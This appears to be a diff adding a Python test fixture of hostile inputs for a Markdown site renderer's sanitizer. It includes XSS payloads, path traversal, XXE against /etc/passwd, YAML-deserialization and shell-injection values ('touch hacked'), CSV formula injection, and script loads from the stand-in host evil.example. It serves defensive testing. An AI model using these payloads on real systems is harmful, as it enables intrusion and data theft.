@@ -1,0 +1,274 @@
+"""What people have tried elsewhere: each case is the files that an author could leave.
+
+A script that runs calls `canary()`. `refused` says that a strict check must name the case's
+file; without it the words must be harmless as they stand.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+RUN = "canary()"
+
+
+@dataclass
+class Case:
+    name: str
+    files: dict[str, str | bytes] = field(default_factory=dict)
+    refused: bool = False
+
+
+def page(name: str, text: str, refused: bool = False) -> Case:
+    return Case(name, {f"{name}.md": f"# Case {name}\n\n{text}\n"}, refused)
+
+
+LINKS = [  # address, refused
+    (f"javascript:{RUN}", True),
+    (f"JaVaScRiPt:{RUN}", True),
+    (f"javascript&colon;{RUN}", True),
+    (f"&#x6A;avascript:{RUN}", True),
+    (f"&#0000106;avascript:{RUN}", True),
+    (f"java&#9;script:{RUN}", True),
+    (f"java&#10;script:{RUN}", True),
+    (f"&#1;javascript:{RUN}", True),
+    (f"&#32;javascript:{RUN}", True),
+    (f"\u200bjavascript:{RUN}", True),
+    (f"javascript%3A{RUN}", True),
+    (f"vbscript:{RUN}", True),
+    (f"feed:javascript:{RUN}", True),
+    (f"view-source:javascript:{RUN}", True),
+    ("data:text/html,<script>canary()</script>", True),
+    ("data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==", True),
+    ("data:image/svg+xml,<svg onload=canary()>", True),
+    ("blob:https://evil.example/x", True),
+    ("//evil.example/x", True),
+    ("/\\\\evil.example/x", True),
+    ("\\\\\\\\evil.example\\\\share", True),
+    ("file:///etc/passwd", True),
+    ("/etc/passwd", True),
+    ("../../outside.txt", True),
+    ("..%2f..%2foutside.txt", True),
+    ("%2e%2e/%2e%2e/outside.txt", True),
+    ("....//....//outside.txt", True),
+    ("../content/../../outside.txt", True),
+    ('https://evil.example/"onmouseover=canary()"', False),
+    ("https://evil.example/'onmouseover='canary()", False),
+    ("https://evil.example/%22%3E%3Cscript%3Ecanary()%3C/script%3E", False),
+    ("mailto:a@b.example?subject=%22%3E<script>canary()</script>", False),
+]
+
+RAW = [
+    f"<script>{RUN}</script>",
+    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    f"<script\n>{RUN}</script\n>",
+    f"<img src=x onerror={RUN}>",
+    f"<IMG SRC=javascript:{RUN}>",
+    f"<svg onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><a xlink:href=javascript:{RUN}>x</a></svg>",
+    f"<math><mi href=javascript:{RUN}>x</mi></math>",
+    f"<iframe src=javascript:{RUN}></iframe>",
+    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
+    f"<object data=javascript:{RUN}></object>",
+    "<embed src=//evil.example/x.swf>",
+    "<base href=//evil.example/>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import url(//evil.example/x.css); body { background: url(//evil.example/) }</style>",
+    f"<form action=javascript:{RUN}><button>x</button></form>",
+    f"<button formaction=javascript:{RUN}>x</button>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<details open ontoggle={RUN}><summary>x</summary></details>",
+    f"<marquee onstart={RUN}>x</marquee>",
+    f"<video><source onerror={RUN}></video>",
+    f"<body onload={RUN}>",
+    f"<mark onclick={RUN}>x</mark>",
+    "<kbd style='background:url(//evil.example/)'>x</kbd>",
+    f"<sup\x0conclick={RUN}>x</sup>",
+    f"<template><script>{RUN}</script></template>",
+    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
+    f"<textarea></textarea><img src=x onerror={RUN}></textarea>",
+    f"<xmp></xmp><script>{RUN}</script>",
+    f"<plaintext><script>{RUN}</script>",
+    f"<!--><script>{RUN}</script>-->",
+    f"<!-- --!><img src=x onerror={RUN}> -->",
+    f"<![CDATA[ ><script>{RUN}</script> ]]>",
+    f"<?xml ><img src=x onerror={RUN}> ?>",
+    f"<!DOCTYPE x [<!ENTITY y '<script>{RUN}</script>'>]>",
+    f"<a href=javascript:{RUN}>x</a>",
+    f"</main></body><script>{RUN}</script>",
+    f"<dialog open><script>{RUN}</script></dialog>",
+    f"<portal src=javascript:{RUN}></portal>",
+    f"<custom-x is=x onclick={RUN}>x</custom-x>",
+]
+
+QUIET = [  # Markdown that must end as text
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
+    f"```\n</code></pre><script>{RUN}</script>\n```",
+    f"```x\"><script>{RUN}</script>\ntext\n```",
+    f"`</code><script>{RUN}</script>`",
+    f"[x](https://evil.example/ \"\\\"><script>{RUN}</script>\")",
+    f"![\" onerror=\"{RUN}](logo.svg)",
+    f"![x](logo.svg '\"><script>{RUN}</script>')",
+    f"x[^\"onclick={RUN}]\n\n[^\"onclick={RUN}]: note",
+    "[EV-01] and [ev-01]",
+    "| a |\n|---|\n| `<script>canary()</script>` |",
+    "> [!NOTE]\n> `<img src=x onerror=canary()>`",
+    "\u202escript:canary()\u202c \u2066x\u2069",
+    "- [ ] `</li><script>canary()</script>`",
+    f"## `<script>{RUN}</script>` \"onclick={RUN}\n\ntext",
+    "https://evil.example/<script>canary()</script>",
+    "www.evil.example/\"onclick=canary()",
+    "zterme and `zterme`",
+    f"<img src=`x` onerror={RUN}>",
+    f"<br/onload={RUN}>",
+    f"<summary/onclick={RUN}>x</summary>",
+]
+
+FRONT = [  # front matter, refused
+    (f"title: '<script>{RUN}</script>'", False),
+    (f"summary: '\"><img src=x onerror={RUN}>'", False),
+    (f"tags: ['\"><script>{RUN}</script>']", False),
+    (f"owner: '\"><script>{RUN}</script>'", False),
+    (f"aliases: ['../../../x.html', '/etc/x', '\"><script>{RUN}</script>', 'javascript:{RUN}']", False),
+    ("title: !!python/object/apply:os.system ['touch hacked']", False),
+    (f"title: !!js/function 'function(){{{RUN}}}'", False),
+    ("? *x\n: 1", False),  # no front matter: text
+    ("title: x\n? *x\n: 1", True),
+    ("a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\n"
+     "d: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e]\n"
+     "g: {? *f : 1, ? [*f] : 2}", True),
+    ("title: &a [*a]", True),
+    ("a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\n"
+     "d: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e]", True),
+    ("order: 99999999999999999999999", True),
+    ("order: .nan", True),
+    ("<<: {title: x}\ntitle: y", True),
+    ("title: " + "[" * 5000, True),
+    ("title: a\ntitle: b", True),
+    ("reviewed: 2026-02-31", True),
+    ("review-every: 999999999 years", True),
+    ("title: \"a\\0b\"", False),
+    ("%TAG ! tag:evil.example,2000:\ntitle: x", False),
+    (f"'\"><script>{RUN}</script>': x", True),
+]
+
+SVG = [  # what stands in an <svg>, refused
+    f"<script>{RUN}</script>",
+    f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{RUN}'/></foreignObject>",
+    f"<rect onclick='{RUN}' width='9' height='9'/>",
+    "<image href='https://evil.example/x.png'/>",
+    "<use href='https://evil.example/x.svg#a'/>",
+    f"<a xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='javascript:{RUN}'><text>x</text></a>",
+    "<style>@import url(https://evil.example/x.css);</style>",
+    "<rect style='fill:url(https://evil.example/x)' width='9' height='9'/>",
+    f"<set attributeName='onmouseover' to='{RUN}'/>",
+    f"<animate attributeName='href' values='javascript:{RUN}'/>",
+    f"<x:script xmlns:x='http://www.w3.org/2000/svg'>{RUN}</x:script>",
+    f"<iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script>{RUN}&lt;/script>'/>",
+]
+
+SVG_FILES = [
+    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
+    f"<?xml-stylesheet href='javascript:{RUN}'?><svg xmlns='http://www.w3.org/2000/svg'/>",
+    "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'>"
+    "<text>&x;</text></svg>",
+    "<!DOCTYPE svg [<!ENTITY a 'aaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]>"
+    "<svg xmlns='http://www.w3.org/2000/svg'><text>&b;</text></svg>",
+    f"<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>{RUN}</s:script></s:svg>",
+    f"<!--{'x' * 9000}--><svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>",
+    f"\ufeff<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>".encode("utf-16"),
+    f"<html><script>{RUN}</script></html>",
+]
+
+HTML = f"<!doctype html><script>{RUN}</script>"
+FILES = [  # other files that a page may lead to
+    ("evil.html", HTML), ("evil.HTM", HTML), ("evil.xhtml", HTML), ("evil.xml", HTML),
+    ("evil.mht", HTML), ("evil.shtml", HTML), ("evil.js", RUN), ("evil.svgz", b"\x1f\x8b\x08\x00"),
+    ("evil", HTML), ("evil.unknown", HTML), ("gif.html", "GIF89a" + HTML),
+]
+
+TABLES = {  # the sample's columns, each cell hostile
+    "mots.csv": "dire;éviter;pourquoi\n"
+    f"<script>{RUN}</script>;zmauvais;\"<img src=x onerror={RUN}>\"\n"
+    "=cmd|'/c calc'!A1;@SUM(A1);+1\n",
+    "glossaire.csv": f"terme;définition\nzterme;\"\"\"><script>{RUN}</script>\"\n"
+    f"\"<b onclick={RUN}>\";x\n",
+    "changements.csv": f"date;document;règle;version;quoi;pourquoi\n2026-09-01;;;;<script>{RUN}</script>;"
+    f"javascript:{RUN}\n",
+    "calendrier.csv": "id;date;réseau;format;titre;état;lien\n"
+    f"\"\"\"><script>{RUN}</script>\";2026-10-05;zreseau;post;\"<img src=x onerror={RUN}>\";idée;"
+    f"javascript:{RUN}\n"
+    "b;2026-10-06;zreseau;post;\"a\nATTACH:javascript:canary()\nEND:VEVENT\";idée;\n",
+    "couleurs.csv": "nom;hex\n\"</style><script>canary()</script>\";#112233\n"
+    "noir;\"#000}body{background:url(//evil.example)}\"\n",
+    "veille.csv": f"quoi;outil;fréquence;rôle\n<script>{RUN}</script>;javascript:{RUN};\"\"\"onclick={RUN}\";x\n",
+    "synonymes.csv": f"terme;synonymes\n<script>{RUN}</script>;\"</script><script>{RUN}</script>\"\n",
+    "relais.csv": f"titre;adresse;texte\n<script>{RUN}</script>;javascript:{RUN};\"<img src=x onerror={RUN}>\"\n",
+}
+
+NAMES = [  # file names
+    "a\"onclick=canary().md", "a'b.md", "<script>canary()</script>.md".replace("/", "∕"), "a&lt;b.md",
+    "a\nb.md", "a\u202egnp.md", "a b%20c.md", "%2e%2e%2fx.md", "..x.md", "CON.md", "x" * 200 + ".md",
+    "é\u0301.md", "日本.md", "a\\..\\b.md", "javascript:canary().md", "-rf.md", "$(touch hacked).md",
+    "`x`.md", "a;b.md", "a|b.md", "\x7f.md", "a\tb.md", "index.html.md", "404.md", "assets.md",
+]
+
+RECORDS = {
+    "contacts/index.md": "---\ncollection: contact\n---\n# Contacts\n",
+    "contacts/joindre.md": "---\ntéléphone: '\"><script>canary()</script>'\ncourriel: "
+    "'javascript:canary()'\nmessagerie: 'javascript:canary()'\nhoraires: '<img src=x onerror=canary()>'\n"
+    "pour: ['\"><script>canary()</script>']\n---\n# `</a><script>canary()</script>`\n",
+    "reseaux/index.md": "---\ncollection: réseau\n---\n# Réseaux\n",
+    "reseaux/zreseau.md": "---\nétat: actif\ncadence: 1/semaine\nadresse: 'javascript:canary()'\n"
+    "titre-court: '\"><script>canary()</script>'\n---\n# `<script>canary()</script>`\n",
+    "regles/index.md": "---\ncollection: règle\n---\n# Règles\n",
+    "regles/EV-01.md": "---\nforce: doit\nrésumé: '\"onmouseover=canary() x=\"'\n---\n"
+    "# A \"quoted\" `<script>canary()</script>` title\n\n## Pourquoi\n\nx\n",
+    "textes/index.md": "---\ncollection: texte\n---\n# Textes\n",
+    "textes/court.md": "---\nlongueur: court\n---\n# Court\n\n`</textarea><script>canary()</script>`\n",
+}
+
+
+def all_cases() -> list[Case]:
+    cases = [page(f"lien{n:02}", f"[x](<{a}>)", bad) for n, (a, bad) in enumerate(LINKS)]
+    cases += [page(f"image{n:02}", f"![x](<{a}>)", True) for n, (a, _) in enumerate(LINKS[:24])]
+    cases += [page(f"reference{n:02}", f"[x][r]\n\n[r]: <{a}>", bad)
+              for n, (a, bad) in enumerate(LINKS[:8])]
+    cases += [page(f"autolien{n:02}", f"<{a}>") for n, (a, _) in enumerate(LINKS[:20])]
+    cases += [page(f"brut{n:02}", f"{raw}\n\nand in a line {raw}", True) for n, raw in enumerate(RAW)]
+    cases += [page(f"texte{n:02}", text) for n, text in enumerate(QUIET)]
+    cases += [Case(f"tete{n:02}", {f"tete{n:02}.md": f"---\n{front}\n---\n# Case tete{n:02}\n"}, bad)
+              for n, (front, bad) in enumerate(FRONT)]
+    inside = [f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>{one}</svg>" for one in SVG]
+    for n, one in enumerate(inside + SVG_FILES):
+        text = f"![x](dessin{n:02}.svg) and [x](dessin{n:02}.svg)"
+        case = page(f"svg{n:02}", text, True)
+        case.files[f"dessin{n:02}.svg"] = one
+        cases.append(case)
+    for n, (name, content) in enumerate(FILES):
+        case = page(f"fichier{n:02}", f"[x]({n:02}{name})", True)
+        case.files[f"{n:02}{name}"] = content
+        cases.append(case)
+    cases += [Case(f"table {name}", {name: text}) for name, text in TABLES.items()]
+    cases += [Case(f"nom {n:02}", {f"noms/{name}": f"# Name {n:02}\n\nText.\n"})
+              for n, name in enumerate(NAMES)]
+    cases.append(Case("records", dict(RECORDS)))
+    return cases
+
+
+SETTINGS = [
+    "nom", "entreprise", "adresse", "thème", "accent", "proposer", "fuseau", "langue", "crise",
+    "problèmes", "style", "cibles", "inconnu",
+]
+VALUES = [
+    f"'\"><script>{RUN}</script>'",
+    f"'javascript:{RUN}'",
+    "'../../../../etc'",
+    f"['</title><img src=x onerror={RUN}>']",
+    "{x: {type: dossier, chemin: '/tmp/$(touch hacked)'}}",
+    "'#000;}body{background:url(//evil.example/)}'",
+    "&a [*a]",
+]
